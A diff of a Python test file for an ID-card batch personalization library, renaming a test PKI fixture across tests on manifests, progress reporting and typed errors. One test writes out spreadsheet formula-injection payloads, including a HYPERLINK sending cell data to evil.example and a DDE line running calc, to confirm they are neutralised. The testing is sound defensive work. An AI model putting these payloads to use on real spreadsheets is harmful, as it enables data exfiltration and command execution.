@@ -32,13 +32,6 @@ from cardlib.errors import CardlibError, InputError
 from cardlib.testing.pki import sample_pki
 
 
-@pytest.fixture(scope="module")
-def pki(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("pki") / "pki"
-    sample_pki().save(folder)
-    return folder
-
-
 def _manifest(out: Path) -> list[dict[str, object]]:
     return [json.loads(line) for line in (out / PERSO_MANIFEST).read_text(encoding="utf-8").splitlines()]
 
@@ -46,26 +39,26 @@ def _manifest(out: Path) -> list[dict[str, object]]:
 # -- the batch
 
 
-def test_one_worker_and_two_personalize_the_same_rows(pki: Path, tmp_path: Path) -> None:
+def test_one_worker_and_two_personalize_the_same_rows(test_pki_folder: Path, tmp_path: Path) -> None:
     source = _input(tmp_path, copies=1)
-    one = cardlib.personalize_batch(source, SignerSource(pki), tmp_path / "one", workers=1)
-    two = personalize_batch(source, SignerSource(pki), tmp_path / "two", workers=2)
+    one = cardlib.personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "one", workers=1)
+    two = personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "two", workers=2)
     assert (one.personalized, one.rejected) == (two.personalized, two.rejected) == (8, 2)
     assert _manifest(tmp_path / "one") == _manifest(tmp_path / "two")
     assert one.batch == read_batch_record(tmp_path / "one")
     assert one.batch.title == "Personalization of in.csv" and one.batch.input == str(source.resolve())
 
 
-def test_a_torn_manifest_line_is_redone_once(pki: Path, tmp_path: Path) -> None:
+def test_a_torn_manifest_line_is_redone_once(test_pki_folder: Path, tmp_path: Path) -> None:
     source = _input(tmp_path, copies=1)
     out = tmp_path / "out"
-    personalize_batch(source, SignerSource(pki), out, workers=2)
+    personalize_batch(source, SignerSource(test_pki_folder), out, workers=2)
     lines = (out / PERSO_MANIFEST).read_text(encoding="utf-8").splitlines(keepends=True)
     torn = "".join(lines[:6]) + lines[6][:25]
     (out / PERSO_MANIFEST).write_text(torn, encoding="utf-8")
     assert perso_rows(out / PERSO_MANIFEST)[0] + len(perso_rows(out / PERSO_MANIFEST)[1]) == 6  # QA: 6 rows
     assert (out / PERSO_MANIFEST).read_text(encoding="utf-8") == torn  # reading never cuts
-    summary = personalize_batch(source, SignerSource(pki), out, workers=2)
+    summary = personalize_batch(source, SignerSource(test_pki_folder), out, workers=2)
     assert (summary.already_done, summary.personalized + summary.rejected) == (6, 4)
     assert sorted(int(str(entry["row"])) for entry in _manifest(out)) == list(range(2, 12))
 
@@ -78,70 +71,71 @@ def test_the_signer_itself_works_without_a_pki_folder(tmp_path: Path) -> None:
     assert CardImage.load(tmp_path / "out" / str(entry.card)).files["DG13"]
 
 
-def test_progress_is_reported_row_by_row(pki: Path, tmp_path: Path) -> None:
+def test_progress_is_reported_row_by_row(test_pki_folder: Path, tmp_path: Path) -> None:
     source = _input(tmp_path, copies=1)
     calls: list[tuple[int, int]] = []
-    personalize_batch(source, SignerSource(pki), tmp_path / "out", on_progress=lambda done, total: calls.append(
-        (done, total)))
+    personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "out",
+                      on_progress=lambda done, total: calls.append((done, total)))
     assert calls == [(done, 10) for done in range(11)]
     calls.clear()
-    personalize_batch(source, SignerSource(pki), tmp_path / "out", on_progress=lambda done, total: calls.append(
-        (done, total)), only_rejected=True)
+    personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "out",
+                      on_progress=lambda done, total: calls.append((done, total)), only_rejected=True)
     assert calls == [(0, 2), (1, 2), (2, 2)]
 
 
-def test_the_summary_names_changed_and_foreign_rows(pki: Path, tmp_path: Path) -> None:
+def test_the_summary_names_changed_and_foreign_rows(test_pki_folder: Path, tmp_path: Path) -> None:
     source = _input(tmp_path, copies=1)
     out = tmp_path / "out"
-    personalize_batch(source, SignerSource(pki), out)
+    personalize_batch(source, SignerSource(test_pki_folder), out)
     rows = _rows(source)
     rows[0]["full_name"] = "Nguyễn Văn Anh"
     _write(source, rows)
-    summary = personalize_batch(source, SignerSource(pki), out)
+    summary = personalize_batch(source, SignerSource(test_pki_folder), out)
     assert (summary.personalized, summary.rejected, summary.already_done) == (0, 0, 10)
     assert [(row.row, row.card) for row in summary.changed] == [(2, f"cards/00002-{rows[0]['id_number']}")]
     assert summary.changed[0].message().startswith("row 2: changed since it was personalized into cards/00002-")
     fixed = _rows(out / REJECTED_CSV)
     _write(tmp_path / "fixed.csv", [dict(fixed[0], row="99")])
-    summary = personalize_batch(tmp_path / "fixed.csv", SignerSource(pki), out)
+    summary = personalize_batch(tmp_path / "fixed.csv", SignerSource(test_pki_folder), out)
     assert [(row.row, row.reason, row.card) for row in summary.refused] == [(99, "not a row of this batch (not done)",
                                                                              None)]
     assert summary.changed == []
 
 
-def test_another_input_is_refused_with_a_typed_error_and_the_folder_unchanged(pki: Path, tmp_path: Path) -> None:
+def test_another_input_is_refused_with_a_typed_error_and_the_folder_unchanged(test_pki_folder: Path,
+                                                                              tmp_path: Path) -> None:
     source = _input(tmp_path, copies=1)
     out = tmp_path / "out"
-    personalize_batch(source, SignerSource(pki), out)
+    personalize_batch(source, SignerSource(test_pki_folder), out)
     before = (out / PERSO_MANIFEST).read_bytes(), (out / BATCH_RECORD).read_bytes()
     other = _write(tmp_path / "tomorrow.csv", _rows(source)[:2])
     with pytest.raises(CardlibError, match="is another file"):
-        personalize_batch(other, SignerSource(pki), out)
+        personalize_batch(other, SignerSource(test_pki_folder), out)
     assert ((out / PERSO_MANIFEST).read_bytes(), (out / BATCH_RECORD).read_bytes()) == before
-    summary = personalize_batch(other, SignerSource(pki), out, new_input=True)
+    summary = personalize_batch(other, SignerSource(test_pki_folder), out, new_input=True)
     assert summary.batch.title == "Personalization of in.csv" and summary.batch.input == str(other.resolve())
 
 
-def test_a_damaged_batch_record_or_a_bad_folder_is_a_typed_error(pki: Path, tmp_path: Path) -> None:
+def test_a_damaged_batch_record_or_a_bad_folder_is_a_typed_error(test_pki_folder: Path, tmp_path: Path) -> None:
     source = _input(tmp_path, copies=1)
     (tmp_path / "out").mkdir()
     (tmp_path / "out" / BATCH_RECORD).write_text("{not json", encoding="utf-8")
     with pytest.raises(CardlibError, match="not a batch record"):
-        personalize_batch(source, SignerSource(pki), tmp_path / "out")
+        personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "out")
     (tmp_path / "a-file").write_text("x", encoding="utf-8")
     with pytest.raises(CardlibError, match="cannot make the folder"):
-        personalize_batch(source, SignerSource(pki), tmp_path / "a-file")
+        personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "a-file")
     with pytest.raises(CardlibError, match="workers must be at least 1"):
-        personalize_batch(source, SignerSource(pki), tmp_path / "new", workers=0)
+        personalize_batch(source, SignerSource(test_pki_folder), tmp_path / "new", workers=0)
 
 
-def test_rejected_csv_neutralises_spreadsheet_formulas(pki: Path, tmp_path: Path) -> None:
+def test_rejected_csv_neutralises_spreadsheet_formulas(test_pki_folder: Path, tmp_path: Path) -> None:
     shutil.copytree(SAMPLES / "portraits", tmp_path / "portraits")
     shutil.copytree(SAMPLES / "fingers", tmp_path / "fingers")
     rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
     _write(tmp_path / "in.csv", [dict(rows[0], id_number=value) for value in hostile])
-    personalize_batch(tmp_path / "in.csv", SignerSource(pki), tmp_path / "out")
+    personalize_batch(tmp_path / "in.csv", SignerSource(test_pki_folder), tmp_path / "out")
     rejected = list(csv.DictReader((tmp_path / "out" / REJECTED_CSV).open(encoding="utf-8")))
     assert [row["id_number"] for row in rejected] == ["'" + value for value in hostile]
     cells = [cell for row in rejected for cell in row.values()]
